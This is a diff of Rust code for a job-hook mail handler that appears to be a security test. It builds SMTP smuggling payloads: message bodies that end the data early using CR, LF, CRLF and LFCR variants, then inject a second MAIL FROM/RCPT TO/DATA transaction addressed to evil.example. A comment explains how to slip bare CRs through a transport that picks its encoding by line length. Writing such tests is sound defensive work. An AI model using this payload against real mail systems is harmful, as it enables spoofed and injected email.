@@ -14,10 +14,14 @@ use jobhook_sdk::log::{Level, log};
 use jobhook_sdk::mail::Message;
 use jobhook_sdk::{Context, Handler, Result, export_handler};
 
-/// The second transaction, after an end-of-data form `eol . eol`.
-fn smuggled(eol: &str) -> String {
+/// A second transaction after the end-of-data form `eol . eol`: commands on lines of their own,
+/// to `victim@evil.example`, its data ended by the same form. Every LF-delimited segment is
+/// shorter than 76 bytes and the text is ASCII, so a transport that picks the transfer
+/// encoding by line length (as `lettre` does, counting only LF as a line end) sends the body
+/// 7bit, bare CRs and all.
+fn smuggled(eol: &str, from: &str) -> String {
     format!(
-        "{eol}.{eol}MAIL FROM:<attacker@evil.example>{eol}RCPT TO:<victim@evil.example>{eol}DATA{eol}Subject: smuggled{eol}{eol}smuggled{eol}"
+        "{eol}.{eol}MAIL FROM:<{from}@evil.example>\nRCPT TO:<victim@evil.example>\nDATA\nsmuggled{eol}.{eol}"
     )
 }
 
@@ -34,8 +38,13 @@ struct MailSmuggle;
 impl Handler for MailSmuggle {
     fn run(_ctx: &Context) -> Result<()> {
         let mut body = String::from("Job failed.");
-        for eol in ["\n", "\r", "\r\n"] {
-            body.push_str(&smuggled(eol));
+        for (eol, from) in [
+            ("\r", "cr"),
+            ("\n", "lf"),
+            ("\r\n", "crlf"),
+            ("\n\r", "lfcr"),
+        ] {
+            body.push_str(&smuggled(eol, from));
         }
         body.push_str("\n.\r\nMAIL FROM:<a@evil.example>\r\n");
         body.push_str("\r\n.\nMAIL FROM:<b@evil.example>\r\n");
